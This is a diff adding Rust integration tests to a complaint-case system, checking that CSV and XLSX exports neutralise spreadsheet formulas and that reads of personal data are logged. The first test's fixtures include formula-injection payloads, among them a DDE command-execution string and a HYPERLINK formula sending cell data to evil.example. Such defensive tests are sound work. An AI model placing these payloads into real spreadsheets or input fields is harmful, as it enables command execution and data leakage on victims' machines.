@@ -417,3 +417,77 @@ async fn a_business_a_citizen_names_is_for_staff_eyes_and_never_takes_the_real_o
     )
     .await;
 }
+
+#[tokio::test]
+async fn exports_neutralise_formulas_and_record_who_read_the_personal_data() {
+    let app = spawn_app().await;
+    let cast = app.cast().await;
+    let evil_business = app.create_business(&cast.clerk, json!({"name": "=1+cmd|' /C calc'!A0"})).await;
+    let paper = json!({
+        "business_id": evil_business["id"], "category": "appliances", "description": "@SUM(1+1)",
+        "requested_resolution": "-2+3", "consumer": {"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"},
+        "channel": "mail",
+    });
+    let filed = expect_status(app.post("/api/v1/cases", Some(&cast.clerk), &paper).await, StatusCode::CREATED).await;
+    let case_id = filed["id"].as_str().unwrap();
+    let today = chrono::Utc::now().with_timezone(&chrono::FixedOffset::east_opt(8 * 3600).unwrap()).date_naive();
+    let period = format!("from={today}&to={today}");
+
+    for anonymous in [false, true] {
+        let response =
+            app.get(&format!("/api/v1/exports/cases.csv?{period}&anonymous={anonymous}"), Some(&cast.clerk)).await;
+        let bytes = response.bytes().await.unwrap();
+        let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
+        let mut seen_business = false;
+        for record in reader.records() {
+            for field in record.unwrap().iter() {
+                assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula: {field:?}");
+                seen_business |= field == "'=1+cmd|' /C calc'!A0";
+            }
+        }
+        assert!(seen_business, "the business name is there, as text (anonymous={anonymous})");
+    }
+    // In XLSX the same text is a text cell, as typed.
+    let xlsx = app.get(&format!("/api/v1/exports/cases.xlsx?{period}"), Some(&cast.clerk)).await.bytes().await.unwrap();
+    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.to_vec())).unwrap();
+    use calamine::Reader;
+    let range = book.worksheet_range("cases").unwrap();
+    assert!(
+        range
+            .rows()
+            .any(|row| row.iter().any(|c| matches!(c, calamine::Data::String(s) if s == "=1+cmd|' /C calc'!A0")))
+    );
+
+    // Two exports with personal data (CSV, XLSX) are reads of the case; the anonymous one is not.
+    let log = expect_status(
+        app.get(&format!("/api/v1/cases/{case_id}/access-log"), Some(&cast.officer)).await,
+        StatusCode::OK,
+    )
+    .await;
+    let exports = log["items"].as_array().unwrap().iter().filter(|e| e["what"] == "export").count();
+    assert_eq!(exports, 2, "{log}");
+}
+
+#[tokio::test]
+async fn a_mediators_read_of_a_meeting_is_logged_on_each_case_of_its_agenda() {
+    use crate::mediation::{accepted_case, agenda, meeting};
+    let app = spawn_app().await;
+    let cast = app.cast().await;
+    let mediator_id =
+        expect_status(app.get("/api/v1/me", Some(&cast.mediator)).await, StatusCode::OK).await["id"].clone();
+    let case_id = accepted_case(&app, &cast, 2, 20_000).await;
+    let m = meeting(&app, &cast, &days_ago(-3, 14), &[mediator_id.as_str().unwrap()]).await;
+    let meeting_id = m["id"].as_str().unwrap();
+    expect_status(agenda(&app, &cast, meeting_id, &case_id).await, StatusCode::CREATED).await;
+    let read =
+        expect_status(app.get(&format!("/api/v1/meetings/{meeting_id}"), Some(&cast.mediator)).await, StatusCode::OK)
+            .await;
+    assert_eq!(read["agenda"][0]["consumer_name"], "周小姐");
+    let log = expect_status(
+        app.get(&format!("/api/v1/cases/{case_id}/access-log"), Some(&cast.officer)).await,
+        StatusCode::OK,
+    )
+    .await;
+    let by_mediator: Vec<_> = log["items"].as_array().unwrap().iter().filter(|e| e["role"] == "mediator").collect();
+    assert!(by_mediator.iter().any(|e| e["what"] == "meeting"), "{log}");
+}
